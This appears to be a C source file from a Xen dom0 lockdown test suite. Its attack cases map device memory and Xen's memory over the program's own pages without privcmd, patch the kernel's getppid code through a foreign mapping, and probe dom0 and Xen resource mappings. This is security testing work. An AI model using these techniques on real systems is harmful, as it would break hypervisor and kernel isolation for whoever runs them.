// SPDX-License-Identifier: GPL-2.0-only
/*
 * Mappings that root makes without privcmd's ioctls for them: straight from
 * Xen, over pages of this program's. A PV dom0 has a hypercall that sets an
 * entry of a page table to a frame of another domain's; in a PVH dom0's memory
 * Xen puts anything anywhere.
 *
 * Each attack maps the same frame twice: what is written to one page and read
 * from the other has been in that frame.
 */
#include "mappings.h"

#include <sys/mman.h>

#include "paging.h"
#include "physmap.h"
#include "../hypervisor/trace.h"

/* A page of ours, and the frame that lies there. */
struct own_page {
    uint32_t *page;
    uint64_t frame;
};

static struct own_page own_page(void)
{
    void *page = buffer(PAGE_SIZE);

    return (struct own_page){ .page = page, .frame = own_frame(page) };
}

/* Have @owner's frame at our page: a PV dom0's way. */
static void set_entry(struct own_page own, domid_t owner, uint64_t frame)
{
    hypercall4(__HYPERVISOR_update_va_mapping_otherdomain, own.page,
               frame * PAGE_SIZE | PTE_USER | PTE_NX, UVMF_INVLPG | UVMF_ALL,
               owner);
}

static void put(struct own_page own, domid_t owner, uint64_t frame)
{
    if ( dom0_is_pv() )
        set_entry(own, owner, frame);
    else if ( owner == DOMID_IO )
        map_device(frame, own.frame, true);
    else
        add_batch(XENMAPSPACE_gmfn_foreign, owner, frame, own.frame);
}

static void put_back(struct own_page own, domid_t owner, uint64_t frame)
{
    if ( dom0_is_pv() )
    {
        set_entry(own, DOMID_SELF, own.frame);
        return;
    }

    if ( owner == DOMID_IO )
        map_device(frame, own.frame, false);
    else
        remove_page(own.frame);
    populate(own.frame);
}

/* Whether the first word of @owner's frame can be written and read; it is restored. */
static bool reaches(domid_t owner, uint64_t frame)
{
    static const uint32_t value = 0x72657765;
    const struct own_page writer = own_page(), reader = own_page();
    volatile uint32_t *written = writer.page, *read = reader.page;
    uint32_t before;
    bool same;

    put(writer, owner, frame);
    put(reader, owner, frame);
    before = *written;
    *written = value;
    same = *read == value;
    *written = before;
    put_back(writer, owner, frame);
    put_back(reader, owner, frame);

    return same;
}

/*
 * U-MAP-IO-OWN: reach a device's memory without privcmd's mappings.
 *
 * For a PV dom0 the owner of the frame is DOMID_IO. For a PVH dom0 there is the
 * domctl by which a toolstack maps a device for a domU; dom0 will do as well.
 */
ATTACK("U-MAP-IO-OWN", "map a device's memory over a page of ours")
{
    const struct display *display = find_display();

    if ( !display || !own_page().frame )
        return cannot_try("no display, or no frame for a page of ours");

    return effect_either(reaches(DOMID_IO, display->memory / PAGE_SIZE),
                         "the display's memory", "written and read back",
                         "out of reach");
}

/*
 * U-MAP-XEN-OWN: write to Xen's memory without privcmd's mappings.
 *
 * The owner is DOMID_XEN, and the frame that of a trace buffer.
 */
ATTACK("U-MAP-XEN-OWN", "map Xen's memory over a page of ours")
{
    const uint64_t info = trace_info_frame(),
                   frame = info ? trace_buffer_frame(info) : 0;

    if ( !own_page().frame )
        return cannot_try("no frame for a page of ours");

    /* Any frame shows whether a map works. */
    return effect_either(reaches(DOMID_XEN, frame ? frame : own_page().frame),
                         "a trace buffer of Xen's", "changed", "out of reach");
}

/*
 * U-MAP-SELF-TEXT: map the kernel's code as if it were a guest's, and change
 * it.
 *
 * That the kernel has its code read-only is a matter of its page tables, not of
 * the frame.
 */
ATTACK("U-MAP-SELF-TEXT", "map kernel text by privcmd and change a system call")
{
    const uint64_t frame = kernel_frame(getppid_code());
    bool lied = false;

    if ( !frame )
        return cannot_try("no frame for the kernel's text");

    for ( enum map_way way = 0; way < NR_MAP_WAYS && !lied; way++ )
    {
        uint8_t *page = map_frame(way, DOMID_SELF, frame);

        lied = page && patch_through(page);
    }

    return effect_either(lied, "getppid", "ran code of ours", "intact");
}

/*
 * U-MAP-RES-TYPES: map every kind of resource of dom0's, or of Xen's.
 *
 * U-MAP-RES tries the grant table. The others are its status frames, the pages
 * of device models, and traces of a vCPU; Xen has none of them for the domain
 * that asks, or for those that are no real domains, lockdown or not. This shows
 * that it stays so.
 */
ATTACK("U-MAP-RES-TYPES", "map resources of dom0's own or Xen's")
{
    static const domid_t domids[] = { 0, DOMID_SELF, DOMID_XEN, DOMID_IO };
    static const uint32_t kinds[][2] = {
        { XENMEM_resource_grant_table, XENMEM_resource_grant_table_id_status },
        { XENMEM_resource_ioreq_server, 0 },
        { XENMEM_resource_vmtrace_buf, 0 },
    };
    unsigned int mapped = 0;

    for ( size_t i = 0; i < ARRAY_SIZE(domids) * ARRAY_SIZE(kinds); i++ )
    {
        const uint32_t *kind = kinds[i / ARRAY_SIZE(domids)];

        mapped += maps_resource(domids[i % ARRAY_SIZE(domids)], kind[0],
                                kind[1]);
    }

    return effect(mapped, "%u resources are mapped", mapped);
}
